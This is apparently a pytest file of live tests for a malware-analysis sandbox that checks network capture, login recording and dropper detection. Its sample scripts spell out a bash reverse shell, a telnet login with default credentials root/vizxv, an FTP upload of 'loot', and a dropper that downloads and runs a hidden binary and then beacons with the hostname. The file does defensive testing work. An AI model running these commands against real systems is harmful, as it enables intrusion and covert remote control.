"""A real guest on the simulated internet: clients of every kind, a dropper to its second stage, several at once."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from malkoha.machinery import image as images
from malkoha.store import Home
from tests.live.commandline import Analysis, Malkoha, script

pytestmark = pytest.mark.live

CLIENTS = """cd /tmp
ssh-keygen -q -t ed25519 -N "" -f /root/key
curl -sS -m 60 http://c2.example.net/a.txt
curl -sS -m 60 https://secure.example.net/data.json
wget -q -T 60 -O - https://www.example.org/b.txt
wget -q -T 60 -O - http://plain.example.org/b.txt
busybox wget -q -T 60 -O - http://bb.example.org/c.txt
busybox wget -q -T 60 -O - https://bb.example.org/c.txt
python3 -c 'import urllib.request; print(urllib.request.urlopen("https://py.example.org/x.json", timeout=60).status)'
python3 -c 'import requests
for scheme in ("http", "https"): print(requests.get(scheme + "://requests.example.org/x.json", timeout=60).json())'
printf 'hello there\\n' | nc -w 10 203.0.113.5 4444
printf 'over udp' | nc -u -w 1 203.0.113.5 9999
curl -sS -m 60 'http://[2001:db8::7]/d.txt'
bash -c 'bash -i >& /dev/tcp/203.0.113.66/9001 0>&1'
(echo root; sleep 1; echo vizxv; sleep 1; echo id; sleep 1; echo exit; sleep 1) | telnet 203.0.113.9
ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o PreferredAuthentications=publickey -i /root/key root@203.0.113.8 id
echo stolen > loot; printf 'user anonymous x\\nput loot\\nget agent.x86_64\\nquit\\n' | ftp -n 203.0.113.10
"""

DROPPER = """cd /tmp
curl -s -o .update http://198.51.100.7/bins/agent.x86_64
chmod +x .update
./.update
for i in 1 2 3 4 5; do curl -s -d "host=$(uname -n)&n=$i" http://198.51.100.7/gate.php; sleep 4; done
"""


def sessions(analysis: Analysis) -> list[dict[str, Any]]:
    return [json.loads(line) for line in analysis.store.sessions.read_text().splitlines()]


@pytest.fixture(scope="module")
def clients(shared: Malkoha, tmp_path_factory: pytest.TempPathFactory) -> Analysis:
    return shared.analyze(script(tmp_path_factory.mktemp("clients"), CLIENTS), "--timeout", "250")


def test_clients_fetch_over_http_and_https(clients: Analysis) -> None:
    said = clients.stdout.decode()
    assert said.count("ok\n") == 6
    assert said.count("{'status': 'ok'") == 2
    assert '"status":"ok"' in said
    assert "200\n" in said
    asked = [(s["tls"] is not None, step["host"]) for s in sessions(clients) for step in s["steps"] if "host" in step]
    assert {(True, "secure.example.net"), (True, "www.example.org"), (True, "py.example.org")} <= set(asked)
    assert {(False, "c2.example.net"), (False, "bb.example.org"), (True, "bb.example.org")} <= set(asked)
    assert {(False, "plain.example.org"), (False, "requests.example.org"), (True, "requests.example.org")} <= set(asked)
    assert (False, "[2001:db8::7]") in asked


def test_other_conversations_are_kept(clients: Analysis) -> None:
    kept = {(s["transport"], s["dst"], s["dport"]): s for s in sessions(clients)}
    assert kept["tcp", "203.0.113.5", 4444]["preview_sent"] == "hello there\n"
    assert kept["udp", "203.0.113.5", 9999]["preview_sent"] == "over udp"
    shell = kept["tcp", "203.0.113.66", 9001]
    assert next(step["command"] for step in shell["steps"] if "command" in step) == "id\n"
    assert "uid=0(root)" in shell["preview_sent"]


def test_logins_are_taken_and_recorded(clients: Analysis) -> None:
    kept = {session["service"]: session for session in sessions(clients)}
    login, command = (step for step in kept["telnet"]["steps"][:2])
    assert (login["user"], login["password"], command["command"]) == ("root", "vizxv", "id")
    assert [step["command"] for step in kept["ssh"]["steps"] if step["what"] == "command"] == ["id"]
    assert [payload["name"] for payload in kept["ftp"]["payloads"]] == ["loot", "agent.x86_64"]
    network = clients.report["network"]
    assert network["ssh"][0]["client"].startswith("SSH-2.0-OpenSSH")
    assert {command["command"] for command in network["ftp"]} >= {"USER", "STOR", "RETR"}
    assert network["telnet"][0]["client"].startswith("root")


def test_the_section_names_the_process_of_each_flow(clients: Analysis) -> None:
    network = clients.report["network"]
    names = {request["uri"]: request["cause"]["process_name"] for request in network["http"]}
    assert names["http://c2.example.net/a.txt"] == "curl"
    assert names["http://bb.example.org/c.txt"] == "busybox"
    asked = {exchange["host"]: exchange["cause"]["process_name"] for exchange in network["https_ex"]}
    assert (asked["www.example.org"], asked["py.example.org"]) == ("wget", "python3.13")
    assert {hello["server_name"] for hello in network["tls"]} >= {"secure.example.net", "www.example.org"}
    assert all(len(hello["ja3"]) == 32 and hello["ja4"].startswith("t1") for hello in network["tls"])
    lookups = {lookup["request"]: (lookup["cause"] or {}).get("process_name") for lookup in network["dns"]}
    assert lookups["secure.example.net"] == "curl"
    assert [flow for flow in network["tcp"] if flow["cause"] is None] == []


CROWD = """#!/usr/bin/python3
import os, select, socket
for number in range(6):
    if os.fork() == 0:
        said = b"pid %d" % os.getpid()
        for turn in range(2):
            never = socket.socket()
            never.bind(("127.0.0.1", 0))
            never.connect_ex(("198.51.100.7", 7000))
            near = socket.socket()
            near.setblocking(number % 2 == 0)
            near.connect_ex(("198.51.100.7", 7000))
            select.select([], [near], [])
            near.sendall(said)
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(said, ("198.51.100.8", 7001))
            far = socket.create_connection(("2001:db8::9", 7002))
            far.sendall(said)
        os._exit(0)
for number in range(6):
    os.wait()
"""


def test_each_conversation_belongs_to_the_process_that_held_it(malkoha: Malkoha, tmp_path: Path) -> None:
    sample = tmp_path / "crowd.py"
    sample.write_text(CROWD)
    network = malkoha.analyze(sample).report["network"]
    told = [
        (s["preview_sent"], f"pid {(s['cause'] or {}).get('pid')}") for s in network["sessions"] if s["dport"] > 6999
    ]
    assert len(told) == 36
    assert [pair for pair in told if pair[0] != pair[1]] == []


@pytest.fixture(scope="module")
def written_in_go(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small client written in Go, which checks certificates as Go does: Debian's gron."""
    folder = tmp_path_factory.mktemp("gron")
    if (
        shutil.which("apt-get") is None
        or subprocess.run(["apt-get", "download", "gron"], cwd=folder, check=False).returncode
    ):
        pytest.skip("apt has no package gron here")
    (package,) = folder.glob("gron_*.deb")
    subprocess.run(["dpkg-deb", "-x", str(package), str(folder)], check=True)
    return folder / "usr" / "bin" / "gron"


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_client_written_in_go_fetches(malkoha: Malkoha, written_in_go: Path, scheme: str) -> None:
    analysis = malkoha.analyze(written_in_go, "--arguments", f"{scheme}://go.example.org/x.json")
    assert b'json.status = "ok";' in analysis.stdout
    network = analysis.report["network"]
    (asked,) = network["https_ex"] if scheme == "https" else network["http_ex"]
    assert (asked["host"], asked["cause"]["process_name"], asked["cause"]["api"]) == (
        "go.example.org",
        "gron",
        "connect",
    )


def test_without_a_network_there_is_no_card(malkoha: Malkoha, tmp_path: Path) -> None:
    sample = script(tmp_path, "ls /sys/class/net\n")
    assert malkoha.analyze(sample, "--network", "none").stdout == b"lo\n"


def test_dropped_packets_get_no_answer(malkoha: Malkoha, tmp_path: Path) -> None:
    sample = script(tmp_path, "curl -sS -m 3 http://198.51.100.7/ || echo failed $?\n")
    analysis = malkoha.analyze(sample, "--network", "drop")
    assert analysis.stdout == b"failed 28\n"
    frames = analysis.store.pcap.read_bytes()
    assert b"\xc6\x33\x64\x07" in frames


def test_a_dropper_runs_to_its_second_stage(malkoha: Malkoha, tmp_path: Path) -> None:
    analysis = malkoha.analyze(script(tmp_path, DROPPER))
    assert b"second stage\n" in analysis.stdout
    posts = [step for s in sessions(analysis) for step in s["steps"] if step.get("method") == "POST"]
    assert len(posts) == 5
    (stage,) = analysis.named(".update")
    assert stage["exit_code"] == 0
    network = analysis.report["network"]
    download = next(each for each in network["downloads"] if each["url"].endswith("/bins/agent.x86_64"))
    assert (download["files"], download["executed"]) == (["/tmp/.update"], [stage["pid"]])
    assert download["cause"]["process_name"] == "curl"
    assert download["sha256"] in {entry["sha256"] for entry in analysis.report["dropped"]}
    found = {finding["kind"]: finding for finding in network["findings"]}
    assert found["download_executed"]["target"] == "http://198.51.100.7/bins/agent.x86_64"
    # the pause of the loop, and what a slow machine needs for a request
    assert 4 <= found["beacon"]["period_s"] < 20
    matched = {match["name"] for match in analysis.report["signatures"]}
    assert {"network_download_executed", "network_beacon"} <= matched


def test_a_url_is_fetched_in_the_guest_and_what_it_gives_is_run(malkoha: Malkoha) -> None:
    done = malkoha.run("analyze", "--json", "--no-open", "https://c2.example.net/bins/agent.x86_64")
    analysis = malkoha.told(done)
    assert analysis.report["target"] == {"category": "url", "url": "https://c2.example.net/bins/agent.x86_64"}
    assert b"second stage" in analysis.stdout
    (download,) = analysis.report["network"]["downloads"]
    assert download["url"] == "https://c2.example.net/bins/agent.x86_64"
    assert download["executed"]
    (link,) = analysis.report["malkoha"]["chain"]["links"]
    assert (link["kind"], link["id"], link["why"]) == (
        "program",
        None,
        f"it ran here, as process {download['executed'][0]}",
    )


def test_what_a_url_downloads_is_analysed_in_turn(malkoha: Malkoha) -> None:
    url = "http://c2.example.net/files/kit.zip"
    parent = malkoha.told(malkoha.run("analyze", "--json", "--no-open", "--option", "client=wget", url))
    links = parent.report["malkoha"]["chain"]["links"]
    assert [(link["name"], link["kind"], link["depth"], link["status"]) for link in links] == [
        ("run.sh", "archive", 1, "reported"), ("agent", "archive", 1, "reported"),
    ]  # fmt: skip
    child = json.loads((parent.store.root.parent / str(links[1]["id"]) / "report.json").read_bytes())
    assert child["malkoha"]["chain"]["parent"] == parent.report["info"]["id"]
    assert child["malkoha"]["output"]["stdout"] == "second stage\n"
    assert child["malkoha"]["verdict"]["level"] == links[1]["level"]
    assert f"{links[1]['id']}: agent" in parent.store.report_html.read_text()


def test_a_browser_opens_a_url(malkoha: Malkoha, real: Home) -> None:
    found = [image.name for image in images.list_images(real) if "chromium" in image.packages]
    if not found:
        pytest.skip("no image has a browser: malkoha image build --name browser --packages chromium")
    words = ("--image", found[0], "--option", "client=browser", "--timeout", "280", "https://www.example.net/")
    analysis = malkoha.told(malkoha.run("analyze", "--json", "--no-open", *words))
    (shot,) = analysis.report["screenshots"]
    assert (analysis.store.root / shot["path"]).read_bytes().startswith(b"\x89PNG")
    page = next(entry for entry in analysis.report["dropped"] if entry["filepath"].endswith("/page.html"))
    assert b"This site is running" in (analysis.store.root / page["path"]).read_bytes()
    assert "data:image/png;base64," in analysis.store.report_html.read_text()
    asked = {exchange["host"]: exchange["request"] for exchange in analysis.report["network"]["https_ex"]}
    assert "Headless" not in asked["www.example.net"]["user-agent"]
